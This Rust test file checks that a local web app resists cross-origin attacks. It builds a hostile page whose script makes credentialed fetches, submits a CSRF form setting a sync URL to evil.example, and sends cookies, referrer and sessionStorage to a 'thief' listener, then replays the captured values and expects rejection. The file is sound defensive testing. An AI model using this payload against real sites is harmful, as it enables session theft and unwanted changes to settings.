//! A page of somebody else, open in the same browser: of another site, or of another user of this PC at a port of his.

use std::{
    io::{BufRead, BufReader, Read, Write},
    net::{TcpListener, TcpStream},
    sync::{Arc, Mutex},
    thread,
};

use serde_json::json;

use super::{Office, browser::Browser, requests::Client, until};

/// Shortest word that could be a secret.
const SECRET_BYTES: usize = 16;

/// Answers every request with one page, as long as the test runs, and keeps everything that it is told.
struct Site {
    port: u16,
    heard: Arc<Mutex<Vec<Heard>>>,
}

#[derive(Clone)]
struct Heard {
    line: String,
    fields: Vec<(String, String)>,
    body: String,
}

impl Site {
    fn open(page: String) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let (port, heard) = (listener.local_addr().unwrap().port(), Arc::new(Mutex::default()));
        let ears = Arc::clone(&heard);
        thread::spawn(move || {
            // A browser also opens connections that it then says nothing on.
            for stream in listener.incoming().map_while(Result::ok) {
                let (page, ears) = (page.clone(), Arc::clone(&ears));
                thread::spawn(move || answer(stream, &page, &ears));
            }
        });
        Self { port, heard }
    }

    fn heard(&self) -> Vec<Heard> {
        self.heard.lock().unwrap().clone()
    }
}

fn answer(mut stream: TcpStream, page: &str, ears: &Mutex<Vec<Heard>>) -> Option<()> {
    let mut reader = BufReader::new(stream.try_clone().ok()?);
    let mut head = reader.by_ref().lines().map_while(Result::ok).take_while(|line| !line.is_empty());
    let line = head.next()?;
    let field =
        |line: String| line.split_once(": ").map(|(name, value)| (name.to_lowercase(), value.to_owned()));
    let fields: Vec<(String, String)> = head.filter_map(field).collect();
    let length =
        fields.iter().find(|(name, _)| name == "content-length").map(|(_, value)| value.parse().unwrap());
    let mut body = vec![0; length.unwrap_or(0)];
    reader.read_exact(&mut body).ok()?;
    ears.lock().unwrap().push(Heard { line, fields, body: String::from_utf8_lossy(&body).into_owned() });
    let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n";
    write!(stream, "{head}Content-Length: {}\r\n\r\n{page}", page.len()).ok()
}

/// Tries everything that a script can, and says in `window.done` what it could read. What can be had by asking one of his
/// own ports goes to `thief`.
fn attack(base: &str, thief: &str) -> String {
    format!(
        "<body><iframe id=frame name=frame src='{base}/'></iframe><img src='{thief}/img'>
        <form id=form method=post action='{base}/settings' target=frame>
        <input name=url value='http://evil.example/'><input name=token value=9_evil></form>
        <script>
        document.cookie = 'mark=seen';
        const tries = [
          fetch('{base}/state', {{ credentials: 'include' }}),
          fetch('{base}/page', {{ credentials: 'include' }}),
          fetch('{base}/', {{ credentials: 'include' }}),
          fetch('{base}/page', {{ credentials: 'include', headers: {{ Authorization: 'Bearer ' }} }}),
          fetch('{base}/settings', {{ method: 'POST', credentials: 'include', mode: 'no-cors',
            body: new URLSearchParams({{ url: 'http://evil.example/', token: '9_evil' }}) }}),
          fetch('{base}/sync', {{ method: 'POST', credentials: 'include', mode: 'no-cors' }}),
        ].map(async (asked) => {{
          try {{ const answer = await asked; return (await answer.text()) ? 'read' : 'nothing'; }}
          catch {{ return 'nothing'; }}
        }});
        const stolen = fetch('{thief}/fetch', {{ method: 'POST', credentials: 'include', mode: 'no-cors',
          body: [location.href, document.referrer, document.cookie, JSON.stringify(sessionStorage), name].join(' ') }});
        // With everything in it, also the frame.
        const loaded = new Promise((ready) => addEventListener('load', ready));
        loaded.then(() => stolen).then(() => Promise.all(tries)).then((got) => {{
          document.getElementById('frame').onload = () => {{
            try {{ got.push(frames.frame.document.body.textContent ? 'read' : 'nothing'); }}
            catch {{ got.push('nothing'); }}
            window.done = got;
          }};
          document.getElementById('form').submit();
        }});
        </script>"
    )
}

/// Says everything again that he was told, as if he were the page: as it came, and each word that could be a secret
/// wherever a secret is asked for.
fn replay(office: &Office, heard: &[Heard]) {
    let (client, kept) = (Client::stranger(office), office.kept());
    let wanted = [("active", "on"), ("url", "http://evil.example/"), ("token", "9_evil")];
    let origin = ("origin".to_owned(), office.base().to_owned());
    let own = ["host", "origin", "content-length", "content-type", "connection", "accept-language"];
    for Heard { line, fields, body } in heard {
        let mut said: Vec<_> =
            fields.iter().filter(|(name, _)| !own.contains(&name.as_str())).cloned().collect();
        said.push(origin.clone());
        assert_eq!(client.get_with("/page", &said).status, 403, "{said:?}");
        assert_eq!(client.get_with("/state", &said).status, 403, "{said:?}");
        assert_eq!(client.post_with("/settings", &wanted, &said).status, 403, "{said:?}");
        let values = fields.iter().map(|(_, value)| value.as_str());
        let words = [line.as_str(), body].into_iter().chain(values);
        let words = words
            .flat_map(|text| text.split(|one: char| !one.is_ascii_alphanumeric() && !"-_".contains(one)));
        for word in words.filter(|word| word.len() >= SECRET_BYTES) {
            let bearer = [("authorization".to_owned(), format!("Bearer {word}")), origin.clone()];
            assert_eq!(client.get_with("/state", &bearer).status, 403, "{word}");
            assert_eq!((client.ticket(word), client.open(word).status), (None, 403), "{word}");
        }
    }
    assert_eq!(office.kept(), kept);
}

#[test]
fn a_page_of_another_site_reads_nothing_gets_nothing_and_changes_nothing() {
    let office = Office::start();
    let browser = Browser::open("tr-TR");
    browser.goto(&office.page);
    browser.shows("status", "Senkron OK (Ankara)");
    let kept = office.kept();
    let thief = Site::open(String::new());
    let evil = Site::open(attack(office.base(), &format!("http://127.0.0.1:{}", thief.port)));
    // To a browser other ports of one address are the same site: cookies go along.
    for name in ["127.0.0.1", "localhost"] {
        browser.goto(&format!("http://{name}:{}/", evil.port));
        until("everything was tried", || browser.run("return window.done !== undefined") == json!(true));
        assert_eq!(browser.run("return window.done"), json!(vec!["nothing"; 7]), "{name}");
        assert_eq!(office.kept(), kept, "{name}");
    }
    // As the link of a page or a mail would lead there, out of the page itself.
    browser.goto(&format!("{}/", office.base()));
    browser.shows("status", "Senkron OK (Ankara)");
    browser.run(&format!("location.href = 'http://127.0.0.1:{}/left'", evil.port));
    until("it was left", || evil.heard().iter().any(|heard| heard.line.contains("/left")));

    let heard = [evil.heard(), thief.heard()].concat();
    let cookies = |heard: &&Heard| heard.fields.iter().any(|field| field.1.contains("mark=seen"));
    assert!(
        thief.heard().iter().find(cookies).is_some(),
        "cookies are sent to other ports, and are seen there"
    );
    let secret = office.page.split_once("?key=").unwrap().1;
    for Heard { line, fields, body } in &heard {
        let all = format!("{line} {fields:?} {body}");
        assert!(!all.contains(secret) && !all.contains(&office.token), "{all}");
    }
    replay(&office, &heard);
    browser.goto(&format!("{}/", office.base()));
    browser.shows("status", "Senkron OK (Ankara)");
}
